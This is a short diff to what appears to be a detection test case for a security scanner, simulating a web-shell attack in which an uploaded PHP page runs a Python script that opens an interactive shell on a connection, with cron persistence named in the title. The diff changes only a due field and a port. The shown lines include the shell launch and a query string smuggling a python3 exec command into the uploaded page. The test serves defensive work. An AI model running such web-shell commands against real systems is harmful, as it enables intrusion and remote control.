@@ -1,7 +1,7 @@
 # id: C09
 # mode: scan
 # level: suspicious
-# due: later (incidents)
+# due: now
 # root: service
 # network: world
 # title: a shell in python on a connection, started by a page, and a line of cron that opens it again
@@ -18,7 +18,7 @@ open("$dropped/$name", "w").close()
 os.execv("/bin/sh", ["sh", "-i"])
 END
 web_service
-ask "/uploads/$name.php?q=python3+-c+%22exec(open('$dropped/run.py').read())%22" 8080
+ask "/uploads/$name.php?q=python3+-c+%22exec(open('$dropped/run.py').read())%22" 8081
 dialled "$name"
 wait_for starts -xf 'sh -i'
 said pid "$(pgrep -xf 'sh -i')"
